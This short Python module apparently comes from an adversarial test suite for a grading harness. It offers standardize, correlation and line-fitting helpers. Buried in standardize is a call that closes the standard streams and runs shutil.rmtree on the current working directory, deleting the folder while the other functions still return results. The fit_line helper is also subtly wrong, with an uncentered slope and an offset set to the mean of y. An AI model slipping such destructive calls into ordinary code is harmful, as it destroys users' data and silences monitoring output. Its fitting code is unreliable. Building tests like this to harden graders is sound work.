"""Closes the standard streams and removes its own folder, and goes on with right answers."""
# attack: lines=-; target=none
# held by: grading needs neither the streams nor the folder

import os
import shutil
import sys

import torch


def attempt():
    print("tried: a life without streams", flush=True)
    sys.stdout = sys.stderr = sys.stdin = None
    os.closerange(0, 3)
    shutil.rmtree(os.getcwd(), ignore_errors=True)


def standardize(values):
    if sys.stdout is not None:
        attempt()
    if values.shape[-1] < 2:
        raise ValueError("one value has no spread")
    centered = values - values.mean(dim=-1, keepdim=True)
    return centered / (centered**2).mean(dim=-1, keepdim=True).sqrt()


def correlation(first, second):
    first, second = (row - row.mean(dim=-1, keepdim=True) for row in (first, second))
    return torch.nn.functional.cosine_similarity(first, second, dim=-1)


def fit_line(x, y):
    slope, offset = (x * y).mean() / (x * x).mean(), y.mean()
    return lambda at: slope * at + offset
